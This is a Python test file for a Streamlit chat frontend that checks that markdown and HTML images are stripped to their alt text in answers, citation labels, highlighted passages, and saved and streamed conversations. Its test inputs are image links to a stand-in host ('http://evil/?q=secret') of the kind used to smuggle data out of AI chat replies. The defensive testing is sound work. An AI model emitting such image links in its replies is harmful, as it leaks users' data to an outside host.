"""Answers and passages are drawn without loading any image they name."""

from __future__ import annotations

from pathlib import Path

import pytest
from streamlit.testing.v1 import AppTest

from frontend.citations import chip_label, highlight
from frontend.safe_markdown import without_images
from services.common.schemas import Citation
from tests.unit.frontend_gateway import NOW, FakeGateway, conversation

APP = str(Path(__file__).resolve().parents[2] / "frontend" / "app.py")


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("see ![x](http://evil/?q=secret) here", "see x here"),
        ('![logo](http://evil/a.png "title")', "logo"),
        ("![x][1]\n\n[1]: http://evil/?q=secret", "x\n\n[1]: http://evil/?q=secret"),
        ("![x][]\n\n[x]: http://evil/", "x\n\n[x]: http://evil/"),
        ("![x]\n\n[x]: http://evil/", "x\n\n[x]: http://evil/"),
        ('a <img src="http://evil/?q=secret" alt="chart"> b', "a chart b"),
        ("a <IMG SRC=http://evil/x.png> b", "a  b"),
        ("a <img src='http://evil/x.png' alt=pic/> b", "a pic/ b"),
    ],
)
def test_images_become_their_alt_text(text: str, shown: str) -> None:
    assert without_images(text) == shown


@pytest.mark.parametrize(
    "text",
    [
        "![a [b] c](http://evil/)",
        "![![x](http://evil/1)](http://evil/2)",
        "![unclosed(http://evil/",
        '<img src="http://evil/" onerror="x"',
    ],
)
def test_no_image_survives_odd_syntax(text: str) -> None:
    shown = without_images(text)
    assert "![" not in shown and "<img" not in shown.lower()


def test_links_and_plain_text_are_unchanged() -> None:
    text = "**bold** [a link](http://example.com) and `code` ! [not an image]"
    assert without_images(text) == text


def test_chip_labels_and_passages_load_no_image() -> None:
    citation = Citation(
        index=1,
        chunk_id=1,
        document_id=1,
        document_name="![x](http://evil/?q=secret).pdf",
        quote="look",
        score=0.5,
    )
    assert chip_label(citation) == "[1] x.pdf"
    marked = highlight("look ![x](http://evil/?q=secret)", "look")
    assert "http://evil" not in marked and "<mark>look</mark>" in marked


def test_a_saved_answer_is_drawn_without_its_image() -> None:
    gateway = FakeGateway()
    answer = "见 ![x](http://evil/?q=secret) 与 <img src=http://evil/2>[1]"
    gateway.conversations[7] = conversation(
        7,
        "旧对话",
        [
            {"id": 1, "role": "user", "content": "旧问题", "created_at": NOW},
            {"id": 2, "role": "assistant", "content": answer, "created_at": NOW},
        ],
    )
    at = AppTest.from_file(APP, default_timeout=30)
    at.session_state["lang"] = "en"
    at.session_state["client"] = gateway.client()
    at.run()
    at.sidebar.button(key="conv-7").click().run()
    assert not at.exception
    shown = [md.value for md in at.chat_message[1].markdown]
    assert "见 x 与 [1]" in shown
    assert not any("evil" in value for value in shown)


def _stream_script() -> None:
    from frontend.chat import _write_safely

    _write_safely(
        iter(["see ![x](http://ev", "il/?q=secret) ", "and ![y][1]\n\n[1]: http://evil/"])
    )


def test_a_streamed_answer_is_drawn_without_its_image() -> None:
    at = AppTest.from_function(_stream_script, default_timeout=30).run()
    assert not at.exception
    [shown] = [md.value for md in at.markdown]
    assert shown == "see x and y\n\n[1]: http://evil/"
